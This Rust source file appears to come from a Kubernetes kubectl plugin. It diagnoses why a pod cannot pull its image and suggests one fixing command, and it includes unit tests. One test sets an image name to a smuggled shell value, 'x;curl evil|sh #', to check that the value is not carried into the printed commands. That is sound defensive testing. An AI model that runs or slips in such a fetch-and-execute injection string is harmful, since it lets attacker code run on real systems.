//! The likely cause, and the command that fixes it. Pure.

use globalps_core::api::Phase;
use globalps_registry::{Pull, RegistryError, public_images, registry_name};
use serde::Serialize;

use super::adding::Adding;
use super::commands::{Login, Place, add, go_back, widen};
use super::facts::{Lag, PodSeen};
use super::failing::{Failing, Said, Use};
use crate::error::quoted;
use crate::registry::{Purpose, failure, missing_flag, suspicion};
use crate::secret::tried::{Origin, Tried};

/// Scripts rely on these names.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize)]
pub(crate) enum Code {
    NoCredentials,
    CredentialsRefused,
    ImageNotFound,
    RegistryUnreachable,
    /// The node does not accept the registry's certificate.
    CertificateUntrusted,
    NodeNotSynced,
    /// A pull secret of the pod is not one that a kubelet can read.
    SecretUnreadable,
    OutsideScope,
    RateLimited,
    InvalidImageName,
    ImageNeverPulled,
    /// The node has it, pulled with credentials that the pod does not have.
    ImageNotAllowed,
    SignatureRejected,
    /// The container runtime pulls it, with credentials of its own.
    SandboxImage,
    /// A pull secret has a credential that the controller has not merged.
    NotMerged,
    /// The cause is gone; the kubelet tries again later.
    WaitsForRetry,
    NotAnImage,
    Unknown,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub(crate) struct Cause {
    pub code: Code,
    /// Empty: none.
    pub registry: String,
    /// One sentence in lower case, without a full stop.
    pub message: String,
    /// The one command to run; empty: no command of the cluster fixes it.
    pub command: String,
    /// What else to know, or to do.
    #[serde(skip_serializing_if = "String::is_empty")]
    pub hint: String,
}

/// A credential, and what the registry answers to it; `None`: it was not asked.
pub(crate) struct Tested<'a> {
    pub tried: &'a Tried,
    pub answer: Option<Result<Pull, RegistryError>>,
}

impl Tested<'_> {
    fn is(&self, pull: Pull) -> bool {
        matches!(&self.answer, Some(Ok(found)) if *found == pull)
    }

    fn is_refused(&self) -> bool {
        matches!(&self.answer, Some(Err(error)) if error.is_refusal())
    }
}

/// Everything that the cause is judged by.
pub(crate) struct Evidence<'a> {
    pub pod: &'a PodSeen,
    pub failing: &'a Failing,
    pub registry: &'a str,
    pub repository: &'a str,
    /// In the kubelet's order.
    pub tries: &'a [Tested<'a>],
    /// What the registry answers without credentials, where there are none.
    pub anonymous: Option<&'a Result<Pull, RegistryError>>,
    /// Although there are credentials, the registry gives out the image without.
    pub is_public: bool,
    /// A source that has a credential for other pods only, and who it is for.
    pub excluding: Option<(&'a str, &'a str)>,
    /// A Secret of the pod that a kubelet can't read.
    pub unreadable: Option<(&'a str, &'a Origin)>,
    pub lag: Option<&'a Lag>,
    /// The node has the image, as its status says.
    pub is_present: bool,
    pub adding: &'a Adding,
    /// Namespace of the pull secrets.
    pub secrets: &'a str,
    /// The newest revision whose additional pull secret has another credential for the image.
    pub earlier: Option<i64>,
    /// The flag that the registries were asked with, `--insecure` or `--ca-file FILE`; may be empty.
    pub asked_with: &'a str,
}

impl Cause {
    /// With commands that are right for this cluster.
    pub(crate) fn at(self, place: &Place<'_>) -> Self {
        Self {
            command: place.text(&self.command),
            hint: place.text(&self.hint),
            ..self
        }
    }
}

impl Evidence<'_> {
    pub(crate) fn cause(&self) -> Cause {
        let answers = self.tries.iter().filter_map(|tried| tried.answer.as_ref());
        let mut answers = answers.chain(self.anonymous);
        let is_limited = |answer: &Result<Pull, RegistryError>| {
            matches!(answer, Err(RegistryError::Answer { status: 429, .. }))
        };
        let has = |pull| {
            let is = |answer: &&Result<Pull, RegistryError>| matches!(answer, Ok(found) if *found == pull);
            self.tries.iter().any(|tried| tried.is(pull)) || self.anonymous.as_ref().is_some_and(is)
        };
        match self.failing.said() {
            _ if self.failing.image.is_empty() => return self.unknown(),
            _ if self.failing.used == Use::Sandbox => return self.sandbox(),
            Said::InvalidName => return self.invalid_name(),
            Said::NeverPulled => return self.never_pulled(),
            _ if let Some((source, origin)) = self.unreadable => {
                return self.secret_unreadable(source, origin);
            }
            Said::Unsigned => return self.unsigned(),
            Said::NotAccess => return self.unknown(),
            Said::RateLimited => return self.rate_limited(),
            Said::Unreachable => return self.unreachable(&self.failing.message),
            _ if answers.any(is_limited) => return self.rate_limited(),
            Said::Missing if !has(Pull::Available) => return self.not_found(),
            _ if has(Pull::Missing) && !has(Pull::Available) => return self.not_found(),
            _ => {}
        }
        let has_own = self.tries.iter().any(|it| it.tried.origin.is_delivered());
        if let (Some(lag), true) = (self.lag, has_own)
            && !self.tries.iter().all(Tested::is_refused)
        {
            return self.not_synced(lag);
        }
        if has(Pull::Available) {
            return self.waits();
        }
        let is_denied = self.failing.said() == Said::Denied
            || self.anonymous.is_some_and(is_refusal)
            || self.tries.iter().any(Tested::is_refused);
        if let Some(found) = self.adding.unmerged_for(&self.failing.image)
            && is_denied
        {
            return self.not_merged(found);
        }
        match (self.tries, self.excluding) {
            ([], Some((source, who))) => return self.outside_scope(source, who),
            ([], None) if self.failing.said() == Said::Denied => return self.no_credentials(),
            ([], None) if self.anonymous.is_some_and(is_refusal) => return self.no_credentials(),
            (tries, _) => {
                let refused = tries.iter().find(|tried| tried.is_refused());
                let said = self.failing.said() == Said::Denied;
                if let Some(refused) = refused.or(tries.first().filter(|_| said)) {
                    return self.refused(refused);
                }
            }
        }
        let errors = self.tries.iter().filter_map(|tried| tried.answer.as_ref());
        match errors
            .chain(self.anonymous)
            .find_map(|it| it.as_ref().err())
        {
            Some(error) => {
                let failure = failure(error, self.registry, Purpose::Look);
                let cause = self.unreachable(&failure.message);
                if missing_flag(error).is_some() {
                    Cause {
                        hint: failure.hint,
                        ..cause
                    }
                } else {
                    cause
                }
            }
            None => self.unknown(),
        }
    }

    pub(super) fn of(&self, code: Code, message: String, command: String, hint: &str) -> Cause {
        Cause {
            code,
            registry: self.registry.to_owned(),
            message,
            command,
            hint: hint.to_owned(),
        }
    }

    /// The command, with a hint; no command where it would not help, but why.
    fn add(&self, login: &Login<'_>, hint: &str) -> (String, String) {
        let adding = self.adding;
        let why = adding.without_effect_for(login.key, login.source);
        let unmerged = || {
            let found = adding.unmerged_for(&self.failing.image)?;
            Some(format!(
                "Secret `{found}` has a credential for it that the controller has not merged: `kubectl globalps check` shows why"
            ))
        };
        if let Some(why) = why.or_else(|| self.unreached()).or_else(unmerged) {
            return (String::new(), why);
        }
        let answers = self.tries.iter().filter_map(|tried| tried.answer.as_ref());
        let mut errors = answers
            .chain(self.anonymous)
            .filter_map(|it| it.as_ref().err());
        let flag = errors.find_map(missing_flag);
        let command = add(login, flag.unwrap_or(self.asked_with));
        (command, hint.to_owned())
    }

    fn no_credentials(&self) -> Cause {
        let registry = self.registry;
        let hint = "it asks for the password; every pod of the cluster can then pull with it. For some namespaces only: `--source` and `--only-namespaces`";
        let (command, hint) = self.add(&Login::new(registry), hint);
        let message = format!("the node has no credentials for `{registry}`, which needs a login");
        self.of(Code::NoCredentials, message, command, &hint)
    }

    fn refused(&self, tested: &Tested<'_>) -> Cause {
        let Tried {
            key,
            username,
            source,
            origin,
            ..
        } = tested.tried;
        let from = if source.is_empty() {
            "the node"
        } else {
            source
        };
        let mut message = match &tested.answer {
            Some(Err(RegistryError::Refused { status, .. })) => format!(
                "`{}` rejects user `{username}` of entry `{key}` in {from} ({status})",
                self.registry
            ),
            _ => format!(
                "`{}` rejects the node's credentials: user `{username}`, from {from}",
                self.registry
            ),
        };
        let login = Login {
            user: username,
            ..Login::new(key)
        };
        let asks = "it asks for the password and checks it first";
        let (command, hint) = match origin {
            Origin::Globalps => {
                let hint = match self.earlier {
                    Some(revision) => format!("{asks}; {}", go_back(revision)),
                    None => asks.to_owned(),
                };
                self.add(&login, &hint)
            }
            Origin::Scoped(source) => {
                let hint = format!("{asks}; the scope stays");
                self.add(&Login { source, ..login }, &hint)
            }
            Origin::Catalog(..) | Origin::Pod | Origin::Kept(_) => self.edit(source, origin),
        };
        let mut hints = Vec::from_iter(suspicion(self.registry, &tested.tried.credential));
        hints.extend(Some(hint).filter(|hint| !hint.is_empty()));
        if self.is_public {
            message.push_str(", although the image is public");
            hints.extend(public_images(&registry_name(key)));
        }
        self.of(
            Code::CredentialsRefused,
            message,
            command,
            &hints.join("; "),
        )
    }

    fn rate_limited(&self) -> Cause {
        let registry = self.registry;
        let (command, hint) = if self.tries.is_empty() {
            let hint =
                "a user with a login has a higher limit; the kubelet also tries again by itself";
            self.add(&Login::new(registry), hint)
        } else {
            let hint = "wait: the kubelet tries again by itself; use an account with a higher limit, or a mirror";
            (String::new(), hint.to_owned())
        };
        let message = format!("`{registry}` limits the rate of pulls (429)");
        self.of(Code::RateLimited, message, command, &hint)
    }

    /// Why the node gets no credentials of globalps, and the pod no Secret with them; `None`: it does.
    fn unreached(&self) -> Option<String> {
        let gps = self.adding.gps.as_ref()?;
        self.lag.filter(|lag| lag.is_left_out())?;
        let node = &self.pod.node;
        (!gps.spec.image_pull_secrets.enabled).then(|| {
            format!(
                "`{node}` gets nothing of globalps: `kubectl globalps status -o wide` shows why"
            )
        })
    }

    fn not_synced(&self, lag: &Lag) -> Cause {
        let node = &self.pod.node;
        let (command, hint) = match (self.adding.without_effect(), &lag.phase) {
            (Some(why), _) => (String::new(), why),
            (None, _) if lag.is_left_out() => (
                "kubectl globalps status -o wide".to_owned(),
                "it shows why the node gets nothing: excluded, not selected, unsupported, or its file is another program's".to_owned(),
            ),
            (None, Phase::Failed | Phase::RolledBack) => (
                format!("kubectl globalps retry {} --wait", quoted(node)),
                "`kubectl globalps status` has the reason: fix it first".to_owned(),
            ),
            _ if lag.is_paused => ("kubectl globalps resume --wait".to_owned(), String::new()),
            _ => (
                format!("kubectl globalps status --node {} --wait", quoted(node)),
                "the rollout reaches it; `kubectl globalps check` shows what is in its way"
                    .to_owned(),
            ),
        };
        let message = format!(
            "node `{node}` is {} with revision {} of {}",
            lag.phase, lag.revision, lag.wanted
        );
        self.of(Code::NodeNotSynced, message, command, &hint)
    }

    fn not_merged(&self, secret: &str) -> Cause {
        let message = format!(
            "Secret `{}/{secret}` has a credential for `{}` that the controller has not merged",
            self.secrets, self.registry
        );
        let (command, hint) = match self.adding.without_effect() {
            Some(why) => (String::new(), why),
            None => (
                "kubectl globalps status --wait".to_owned(),
                "`kubectl globalps check` shows what keeps it".to_owned(),
            ),
        };
        self.of(Code::NotMerged, message, command, &hint)
    }

    fn outside_scope(&self, source: &str, who: &str) -> Cause {
        let PodSeen {
            namespace,
            service_account,
            ..
        } = self.pod;
        let message = format!(
            "source `{source}` has a credential for `{}`, but only for {who}, not for service account `{service_account}` of `{namespace}`",
            self.registry
        );
        let gps = self.adding.gps.as_ref();
        let (command, hint) = match self.adding.without_effect() {
            Some(why) => (String::new(), why),
            None if service_account.is_empty() => (
                String::new(),
                "a static pod has no service account, so no scope covers it".to_owned(),
            ),
            None => (
                gps.and_then(|gps| widen(gps, source, self.pod, self.secrets))
                    .unwrap_or_default(),
                "adds the pod to the scope, if it may use these credentials".to_owned(),
            ),
        };
        self.of(Code::OutsideScope, message, command, &hint)
    }
}

fn is_refusal(answer: &Result<Pull, RegistryError>) -> bool {
    matches!(answer, Err(error) if error.is_refusal())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::secret::changes::InForce;
    use crate::secret::pull::{Answer, Asked, Keyring};
    use globalps_core::api::{GlobalPullSecret, GlobalPullSecretSpec};
    use globalps_dockerconfig::{Precedence, parse};
    use globalps_registry::{Peer, Why};
    use serde_json::json;

    fn refused() -> Result<Pull, RegistryError> {
        Err(RegistryError::Refused {
            url: "https://quay.io/v2/".to_owned(),
            status: 401,
        })
    }

    fn limited() -> Result<Pull, RegistryError> {
        Err(RegistryError::Answer {
            url: "https://quay.io/v2/".to_owned(),
            status: 429,
            retry_after: None,
        })
    }

    /// Of the pod, or of the nodes' file.
    fn answer(of_pod: bool) -> Answer {
        let ring = |name: &str| Keyring {
            name: name.to_owned(),
            bytes: br#"{"auths":{"quay.io":{"auth":"dTpw"}}}"#.to_vec(),
            origin: if of_pod {
                Origin::Pod
            } else {
                Origin::Globalps
            },
        };
        let asked = Asked {
            image: "quay.io/org/app:1".to_owned(),
            of_pod: of_pod.then(|| ring("Secret a/own")).into_iter().collect(),
            of_node: (!of_pod).then(|| ring("the nodes' file")),
            ..Asked::default()
        };
        Answer::of(asked).expect("an image's name")
    }

    fn seen() -> PodSeen {
        let pod = json!({
            "metadata": {"namespace": "a", "name": "p", "ownerReferences": [{
                "apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "o", "uid": "u", "controller": true,
            }]},
            "spec": {"containers": [], "nodeName": "node-1", "serviceAccountName": "ci"},
        });
        PodSeen::of(&serde_json::from_value(pod).expect("a pod"))
    }

    fn failing(message: &str) -> Failing {
        Failing {
            container: "c".to_owned(),
            used: Use::Container,
            image: "quay.io/org/app:1".to_owned(),
            reason: "ErrImagePull".to_owned(),
            message: message.to_owned(),
        }
    }

    /// An installation where `add` comes into force.
    fn works() -> Adding {
        let gps = GlobalPullSecret::new("g", GlobalPullSecretSpec::default());
        Adding {
            gps: Some(gps),
            ..Adding::default()
        }
    }

    const ADD: &str = "kubectl globalps add quay.io -u USER --wait --retry-pods";
    /// For the user whose credentials are rejected.
    const AGAIN: &str = "kubectl globalps add quay.io -u u --wait --retry-pods";

    #[test]
    #[expect(clippy::too_many_lines, reason = "one table of cases")]
    fn each_cause_has_the_one_command_that_fixes_it() {
        let denied = "401 Unauthorized";
        let own = "kubectl -n a edit secret own";
        let set = "kubectl -n a set image pod/p c=quay.io/org/app:TAG";
        // Message, credential (none, of the pod, of the nodes), the registry's answer, and whether the node lags.
        for (message, credential, found, lags, code, command) in [
            (denied, None, None, false, Code::NoCredentials, ADD),
            (
                denied,
                None,
                Some(refused()),
                false,
                Code::NoCredentials,
                ADD,
            ),
            ("?", None, Some(refused()), false, Code::NoCredentials, ADD),
            (
                denied,
                Some(false),
                None,
                false,
                Code::CredentialsRefused,
                AGAIN,
            ),
            (
                denied,
                Some(false),
                Some(refused()),
                false,
                Code::CredentialsRefused,
                AGAIN,
            ),
            (
                denied,
                Some(false),
                Some(refused()),
                true,
                Code::CredentialsRefused,
                AGAIN,
            ),
            (
                denied,
                Some(true),
                Some(refused()),
                false,
                Code::CredentialsRefused,
                own,
            ),
            (
                "manifest unknown",
                Some(false),
                None,
                false,
                Code::ImageNotFound,
                set,
            ),
            (
                denied,
                Some(false),
                Some(Ok(Pull::Missing)),
                false,
                Code::ImageNotFound,
                set,
            ),
            (
                denied,
                Some(false),
                Some(Ok(Pull::Available)),
                true,
                Code::NodeNotSynced,
                "kubectl globalps retry node-1 --wait",
            ),
            (
                denied,
                Some(false),
                Some(Ok(Pull::Available)),
                false,
                Code::WaitsForRetry,
                "kubectl -n a delete pod p",
            ),
            (
                "x509: certificate signed by unknown authority",
                Some(false),
                Some(Ok(Pull::Available)),
                false,
                Code::CertificateUntrusted,
                "",
            ),
            (
                "429 Too Many Requests",
                None,
                None,
                false,
                Code::RateLimited,
                ADD,
            ),
            (
                "?",
                Some(false),
                Some(limited()),
                false,
                Code::RateLimited,
                "",
            ),
            (
                "?",
                None,
                None,
                false,
                Code::Unknown,
                "kubectl -n a describe pod p",
            ),
        ] {
            let (pod, failing) = (seen(), failing(message));
            let answer = credential.map(answer);
            let tries: Vec<Tested<'_>> = answer
                .iter()
                .flat_map(Answer::tries)
                .map(|tried| Tested {
                    tried,
                    answer: found.clone(),
                })
                .collect();
            let lag = lags.then_some(Lag {
                phase: Phase::RolledBack,
                revision: 2,
                wanted: 3,
                is_paused: false,
                is_absent: false,
            });
            let evidence = Evidence {
                pod: &pod,
                failing: &failing,
                registry: "quay.io",
                repository: "quay.io/org/app",
                tries: &tries,
                anonymous: found.as_ref().filter(|_| tries.is_empty()),
                is_public: false,
                is_present: false,
                excluding: None,
                unreadable: None,
                lag: lag.as_ref(),
                adding: &works(),
                secrets: "kube-system",
                earlier: None,
                asked_with: "",
            };
            let cause = evidence.cause();
            assert_eq!(
                (cause.code, cause.command.as_str()),
                (code, command),
                "{message} {found:?}"
            );
        }
    }

    #[test]
    fn a_scope_is_widened_by_what_the_pod_misses() {
        let (pod, failing) = (seen(), failing("401 Unauthorized"));
        for (scope, expected) in [
            (
                json!({"namespaces": ["b"]}),
                r#"{"op":"add","path":"/spec/sources/0/scope/namespaces/-","value":"a"}"#,
            ),
            (
                json!({"namespaceSelector": {"matchLabels": {"t": "b"}}}),
                r#"{"op":"add","path":"/spec/sources/0/scope/namespaces","value":["a"]}"#,
            ),
            (
                json!({"namespaces": ["a"], "serviceAccounts": ["other"]}),
                r#"{"op":"add","path":"/spec/sources/0/scope/serviceAccounts/-","value":"ci"}"#,
            ),
        ] {
            let spec = json!({"sources": [{"name": "team", "scope": scope}]});
            let spec = serde_json::from_value(spec).expect("a spec");
            let gps = GlobalPullSecret::new("g", spec);
            let evidence = Evidence {
                pod: &pod,
                failing: &failing,
                registry: "quay.io",
                repository: "quay.io/org/app",
                tries: &[],
                anonymous: None,
                is_public: false,
                is_present: false,
                excluding: Some(("team", "pods of b")),
                unreadable: None,
                lag: None,
                adding: &Adding {
                    gps: Some(gps),
                    ..Adding::default()
                },
                secrets: "kube-system",
                earlier: None,
                asked_with: "",
            };
            let cause = evidence.cause();
            assert_eq!(cause.code, Code::OutsideScope);
            let test = r#"[{"op":"test","path":"/spec/sources/0/name","value":"team"}"#;
            assert_eq!(
                cause.command,
                format!(
                    "kubectl -n kube-system patch globalpullsecret global-pull-secret --type=json -p '{test},{expected}]'"
                )
            );
        }
    }

    #[test]
    fn a_refused_secret_is_changed_where_it_comes_from() {
        for (origin, expected) in [
            (
                Origin::Catalog("olm".to_owned(), "pull".to_owned()),
                "kubectl -n olm edit secret pull",
            ),
            (Origin::Globalps, AGAIN),
            (
                Origin::Scoped("team".to_owned()),
                "kubectl globalps add quay.io --source team -u u --wait --retry-pods",
            ),
        ] {
            let ring = Keyring {
                name: "Secret a/global-pull-secret".to_owned(),
                bytes: br#"{"auths":{"quay.io":{"auth":"dTpw"}}}"#.to_vec(),
                origin,
            };
            let asked = Asked {
                image: "quay.io/org/app:1".to_owned(),
                of_pod: vec![ring],
                ..Asked::default()
            };
            let found = Answer::of(asked).expect("an image's name");
            let tested: Vec<Tested<'_>> = found
                .tries()
                .iter()
                .map(|tried| Tested {
                    tried,
                    answer: Some(refused()),
                })
                .collect();
            let evidence = Evidence {
                pod: &seen(),
                failing: &failing("401 Unauthorized"),
                registry: "quay.io",
                repository: "quay.io/org/app",
                tries: &tested,
                anonymous: None,
                is_public: false,
                is_present: false,
                excluding: None,
                unreadable: None,
                lag: None,
                adding: &works(),
                secrets: "kube-system",
                earlier: None,
                asked_with: "",
            };
            assert_eq!(evidence.cause().command, expected);
        }
    }

    #[test]
    fn the_command_checks_the_registry_as_it_can_be_checked_from_here() {
        let seen_as = |why| {
            Err(RegistryError::Way {
                to: Peer::Host {
                    host: "quay.io".to_owned(),
                    port: 443,
                },
                why,
            })
        };
        for (found, asked_with, flag) in [
            (refused(), "", ""),
            (refused(), "--ca-file ca.crt", " --ca-file ca.crt"),
            (seen_as(Why::UnknownAuthority), "", " --ca-file FILE"),
            (
                seen_as(Why::UnknownAuthority),
                "--ca-file ca.crt",
                " --ca-file FILE",
            ),
            (seen_as(Why::NotTls), "--ca-file ca.crt", " --insecure"),
        ] {
            let evidence = Evidence {
                pod: &seen(),
                failing: &failing("401 Unauthorized"),
                registry: "quay.io",
                repository: "quay.io/org/app",
                tries: &[],
                anonymous: Some(&found),
                is_public: false,
                is_present: false,
                excluding: None,
                unreadable: None,
                lag: None,
                adding: &works(),
                secrets: "kube-system",
                earlier: None,
                asked_with,
            };
            assert_eq!(
                evidence.cause().command,
                format!("kubectl globalps add quay.io -u USER{flag} --wait --retry-pods")
            );
        }
    }

    fn evidence<'a>(
        pod: &'a PodSeen,
        failing: &'a Failing,
        tries: &'a [Tested<'a>],
        adding: &'a Adding,
    ) -> Evidence<'a> {
        Evidence {
            pod,
            failing,
            registry: "quay.io",
            repository: "quay.io/org/app",
            tries,
            anonymous: None,
            is_public: false,
            is_present: false,
            excluding: None,
            unreadable: None,
            lag: None,
            adding,
            secrets: "kube-system",
            earlier: None,
            asked_with: "",
        }
    }

    #[test]
    fn nothing_of_the_pod_is_a_command_of_its_own() {
        let evil = "x;curl evil|sh #";
        let failing = Failing {
            container: "c".to_owned(),
            image: evil.to_owned(),
            ..failing("manifest unknown")
        };
        let adding = works();
        let pod = seen();
        let mut found = evidence(&pod, &failing, &[], &adding);
        found.repository = evil;
        found.registry = evil;
        for cause in [found.not_found(), found.cause(), found.no_credentials()] {
            let outside = cause.command.split('\'').step_by(2).collect::<String>();
            assert!(!outside.contains("evil"), "{}", cause.command);
        }
    }

    #[test]
    fn only_a_pod_that_is_recreated_is_deleted() {
        let (failing, adding, answer) = (failing("?"), works(), answer(false));
        let tested = answer.tries().iter().map(|tried| Tested {
            tried,
            answer: Some(Ok(Pull::Available)),
        });
        let tries: Vec<Tested<'_>> = tested.collect();
        for (kept, expected) in [
            (None, "kubectl -n a delete pod p"),
            (Some("no controller would recreate them"), ""),
        ] {
            let pod = PodSeen { kept, ..seen() };
            let cause = evidence(&pod, &failing, &tries, &adding).cause();
            assert_eq!(cause.code, Code::WaitsForRetry);
            assert_eq!(cause.command, expected);
        }
    }

    #[test]
    fn a_secret_of_the_pod_that_cannot_be_read_is_the_cause() {
        let ring = |name: &str, auth: &str, origin| Keyring {
            name: name.to_owned(),
            bytes: format!(r#"{{"auths":{{"quay.io":{{"auth":"{auth}"}}}}}}"#).into_bytes(),
            origin,
        };
        let asked = Asked {
            image: "quay.io/org/app:1".to_owned(),
            of_pod: vec![
                ring("Secret a/good", "dTpw", Origin::Pod),
                ring("Secret a/bad", "x", Origin::Pod),
            ],
            of_node: Some(ring("the nodes' file", "dTpw", Origin::Globalps)),
            ..Asked::default()
        };
        let answer = Answer::of(asked).expect("an image's name");
        assert!(answer.tries().is_empty(), "the kubelet tries nothing");
        let (pod, failing, adding) = (seen(), failing("401 Unauthorized"), works());
        let mut evidence = evidence(&pod, &failing, &[], &adding);
        evidence.unreadable = answer.unreadable();
        let cause = evidence.cause();
        assert_eq!(
            (cause.code, cause.command.as_str()),
            (Code::SecretUnreadable, "kubectl -n a edit secret bad")
        );
        assert!(cause.message.starts_with("Secret a/bad "), "{cause:?}");
    }

    #[test]
    fn add_is_not_printed_where_it_changes_nothing() {
        let original = parse(br#"{"auths":{"quay.io":{"auth":"dTpw"}}}"#).expect("a file");
        let shadowed = Adding {
            in_force: InForce {
                original,
                precedence: Precedence::Original,
                ..InForce::default()
            },
            ..works()
        };
        let stopped = Adding {
            stopped: Some("the controller is not running: it has 0 replicas".to_owned()),
            ..works()
        };
        let (pod, failing, answer) = (seen(), failing("401 Unauthorized"), answer(false));
        let tested = answer.tries().iter().map(|tried| Tested {
            tried,
            answer: Some(refused()),
        });
        let tries: Vec<Tested<'_>> = tested.collect();
        for (adding, expected) in [
            (shadowed, "`spec.precedence`"),
            (stopped, "0 replicas"),
            (
                Adding {
                    is_not_installed: true,
                    ..Adding::default()
                },
                "not installed",
            ),
        ] {
            for tries in [&tries[..], &[]] {
                let cause = evidence(&pod, &failing, tries, &adding).cause();
                assert_eq!(cause.command, "", "{cause:?}");
                assert!(cause.hint.contains(expected), "{cause:?}");
            }
        }
    }
}
